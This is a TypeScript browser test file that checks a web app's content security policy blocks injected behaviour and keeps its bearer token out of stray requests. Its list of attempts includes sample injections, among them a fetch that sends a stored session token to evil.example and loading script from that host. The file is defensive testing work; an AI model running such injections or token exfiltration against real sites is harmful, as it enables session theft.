import { describe, expect, test } from 'vitest';
import { useWeb } from '../kit/browser/use-web.ts';

const web = useWeb();

/** What a page of ours must not be able to do, whoever slips it in; the kit of the tests must notice each. */
const ATTEMPTS = {
  'an inline script': `const s = document.createElement('script'); s.append('window.done = true'); document.body.append(s)`,
  'a script of another origin': `const s = document.createElement('script'); Object.assign(s, { src: 'https://evil.example/x.js' }); document.body.append(s)`,
  'text as code': `setTimeout('window.done = true')`,
  'text as markup': `document.body.innerHTML = '<b id=done>x</b>'`,
  'an inline style': `const s = document.createElement('style'); s.append('body { color: red }'); document.body.append(s)`,
  'a style attribute': `document.body.setAttribute('style', 'color: red')`,
  'a request to another origin': `fetch('https://evil.example/?' + sessionStorage.getItem('pipecall.token')).catch(() => undefined)`,
  'a frame': `const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)`,
  'an image of another origin': `new Image().src = 'https://evil.example/x.png'`,
  'a worker': `new Worker('data:text/javascript,0')`,
} as const;

describe('the policy refuses', () => {
  test.each(Object.entries(ATTEMPTS))('%s', async (_, attempt) => {
    const page = await web.open('viewer', '/me');
    await page.getByText('Local viewer').first().waitFor();
    await page.evaluate(`(() => { try { ${attempt} } catch (error) { console.error(String(error)) } })()`);
    const troubles: string[] = [];
    await expect
      .poll(() => {
        troubles.push(...web.troubles());
        return troubles.join('\n');
      })
      .toMatch(/policy|Trusted/i);
    expect(await page.evaluate(`window.done ?? document.getElementById('done')`)).toBeNull();
    // An attempt makes more than one trouble; the last of them is told before the page is closed.
    await web.closePages();
    web.troubles();
  });
});

test('an error of a script is noticed', async () => {
  const page = await web.open('viewer', '/me');
  await page.evaluate(`setTimeout(() => { throw new Error('a fault of a test') })`);
  const troubles: string[] = [];
  await expect
    .poll(() => {
      troubles.push(...web.troubles());
      return troubles.join('\n');
    })
    .toContain('a fault of a test');
});

test('a file that is not there is noticed', async () => {
  const page = await web.open('viewer', '/me');
  await page.evaluate(`fetch('/ui/assets/nothing.js')`);
  const troubles: string[] = [];
  await expect
    .poll(() => {
      troubles.push(...web.troubles());
      return troubles;
    })
    .toEqual([expect.stringContaining('/ui/assets/nothing.js was answered with 404')]);
});

test('the pages cannot be put into a frame', async () => {
  const { headers } = await fetch(`${web.url}/ui/`);
  expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
});

test('the token goes to the API in its header and nowhere else', async () => {
  const page = await web.open('owner', '/');
  const seen: { readonly url: string; readonly headers: Record<string, string> }[] = [];
  page.on('request', request => seen.push({ url: request.url(), headers: request.headers() }));
  await page.reload();
  await page.getByRole('main').getByRole('link', { name: 'Hello' }).click();
  await page.getByRole('button', { name: 'You: Local owner' }).waitFor();
  expect(seen.length).toBeGreaterThan(4);
  for (const { url, headers } of seen) {
    expect(url.startsWith(`${web.url}/`)).toBe(true);
    const { authorization, ...others } = headers;
    expect(`${url} ${JSON.stringify(others)}`).not.toContain(web.tokens.owner);
    const ui = new URL(url).pathname.startsWith('/ui/');
    expect(authorization, url).toBe(ui ? undefined : `Bearer ${web.tokens.owner}`);
    expect(headers.referer ?? '').toBe('');
    expect(headers.cookie).toBeUndefined();
  }
});
